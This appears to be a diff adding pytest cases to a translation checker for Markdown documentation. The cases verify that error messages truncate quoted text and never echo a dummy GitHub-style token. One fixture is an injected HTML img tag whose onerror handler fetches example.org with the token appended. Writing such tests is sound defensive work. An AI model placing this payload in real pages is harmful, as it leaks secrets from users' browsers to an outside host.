@@ -236,6 +236,53 @@ def test_a_link_image_or_autolink_kept_is_no_error(case: str) -> None:
     assert check_translation(source, translation, PARAGRAPH) == []
 
 
+TOKEN = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
+"""What a translation should never carry whole into a CI log."""
+DESTINATIONS = "link and image destinations must come back unchanged: "
+
+# source, translation: the findings, each quoting at most 40 characters of a piece of the
+# translation, and at most three pieces
+QUOTED = {
+    "a link with a token": (
+        "See [the docs](/docs) now.",
+        f"Mira [la doc](https://example.org/?token={TOKEN}) ya.",
+        [f"error[link-target]: {DESTINATIONS}missing '[](/docs)'; "
+         "added '[](https://example.org/?token=ghp_16C7e4'…"],
+    ),
+    "active HTML with a token": (
+        "Plain words here.",
+        f"Unas <img src=x onerror=\"fetch('https://example.org/?t={TOKEN}')\"> palabras.",
+        ["error[html]: adds active HTML '<img src=x onerror=\"fetch(\\'https://examp'…: "
+         "never allowed in a translation"],
+    ),
+    "a long code span": (
+        "Use `a` here.",
+        f"Usa `{TOKEN}{TOKEN}` aquí.",
+        ["error[code-span]: inline code must come back unchanged: missing '`a`'; "
+         "added '`ghp_16C7e42F292c6912E7710c838347Ae178B4'…"],
+    ),
+    "five shortcodes added": (
+        "Text.",
+        "Texto {{< a >}} {{< b >}} {{< c >}} {{< d >}} {{< e >}}.",
+        ["error[shortcode]: shortcode calls must come back unchanged: "
+         "added '{{< a >}}', '{{< b >}}', '{{< c >}}' and 2 more"],
+    ),
+    "five links added": (
+        "One.",
+        "[a](/1) [b](/2) [c](/3) [d](/4) [e](/5)",
+        [f"error[link-target]: {DESTINATIONS}added '[](/1)', '[](/2)', '[](/3)' and 2 more"],
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", sorted(QUOTED))
+def test_a_finding_quotes_at_most_40_characters_of_three_pieces(case: str) -> None:
+    source, translation, expected = QUOTED[case]
+    found = check_translation(source, translation, PARAGRAPH)
+    assert [f"{f.severity}[{f.check}]: {f.message}" for f in found] == expected
+    assert all(TOKEN not in f.message for f in found)
+
+
 AUTOLINK_PAGE = "---\ntitle: Contact\n---\n\nSee <https://example.org/x> for more.\n"
 
 
